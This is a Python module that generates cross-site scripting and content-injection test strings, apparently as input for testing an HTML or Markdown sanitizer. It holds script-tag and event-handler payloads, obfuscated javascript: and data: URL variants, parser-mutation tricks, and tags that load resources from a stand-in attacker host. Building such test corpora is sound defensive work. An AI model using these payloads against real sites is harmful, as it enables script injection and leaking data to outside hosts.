"""Texts that try to run a script or to load something from elsewhere, in HTML, attributes, URLs and Markdown."""

from collections.abc import Iterator
from itertools import product

_CODE = "globalThis.xss=1"
_ELSEWHERE = "https://evil.example/x"
_HANDLERS = {
    "img": "src=x onerror",
    "svg": "onload",
    "body": "onload",
    "video": "src=x onerror",
    "audio": "src=x onerror",
    "input": "autofocus onfocus",
    "select": "autofocus onfocus",
    "textarea": "autofocus onfocus",
    "details": "open ontoggle",
    "marquee": "onstart",
    "iframe": "onload",
    "object": "data=x onerror",
    "button": "popovertarget=x onbeforetoggle",
    "style": "onload",
    "math": "onmouseover",
    "a": "href=x autofocus tabindex=1 onfocus",
}
# What closes the element or attribute in which a text is written.
_ESCAPES = ("", '"', "'", '">', "'>", "</title>", "</textarea>", "</script>", "-->", "]]>", "`")
_LOADS = (
    '<img src="{url}">',
    "<link rel=stylesheet href={url}>",
    "<iframe src={url}></iframe>",
    "<object data={url}></object>",
    "<embed src={url}>",
    "<video poster={url}></video>",
    "<style>@import '{url}'</style>",
    '<div style="background:url({url})">x</div>',
    "<base href={url}>",
    "<meta http-equiv=refresh content='0;url={url}'>",
    "<script src={url}></script>",
    "<svg><image href={url}></svg>",
    "<form action={url}><button>x</button></form>",
    "![image]({url})",
    "![image][ref]\n\n[ref]: {url}",
    '![]({url} "onerror={code}")',
)
_SCHEMES = (
    "javascript:{code}",
    "JaVaScRiPt:{code}",
    "java\tscript:{code}",
    "&#106;avascript:{code}",
    "javascript&colon;{code}",
    "\x01javascript:{code}",
    "vbscript:{code}",
    "data:text/html,<script>{code}</script>",
    "data:text/html;base64,PHNjcmlwdD5nbG9iYWxUaGlzLnhzcz0xPC9zY3JpcHQ+",
    "//evil.example/x",
)
_LINKS = ("[link]({url})", "<{url}>", "[link][r]\n\n[r]: {url}", "<a href='{url}'>link</a>", "![image]({url})")


def _payloads() -> Iterator[str]:
    for escape in _ESCAPES:
        yield f"{escape}<script>{_CODE}</script>"
    for escape, (element, handler) in product(("", '">', "'>", "</textarea>"), _HANDLERS.items()):
        yield f"{escape}<{element} {handler}={_CODE}>"
    for element, handler in _HANDLERS.items():
        yield f"`<{element} {handler}='{_CODE}'>` **<{element}/{handler.replace(' ', '/')}={_CODE}>**"
    for load in _LOADS:
        yield load.format(url=_ELSEWHERE, code=_CODE)
    for link, scheme in product(_LINKS, _SCHEMES):
        yield link.format(url=scheme.format(code=_CODE))
    yield f"<<script>script>{_CODE}<</script>/script>"
    yield f"<scr<script>ipt>{_CODE}</scr</script>ipt>"
    yield f"\ue000<script>{_CODE}</script>\ue001"
    yield f"{{{{ ''.__class__ }}}}{{% print {_CODE} %}}"
    yield f"<math><mtext><table><mglyph><style><img src=x onerror={_CODE}>"
    yield f"<noscript><p title='</noscript><img src=x onerror={_CODE}>'>"


PAYLOADS = tuple(_payloads())
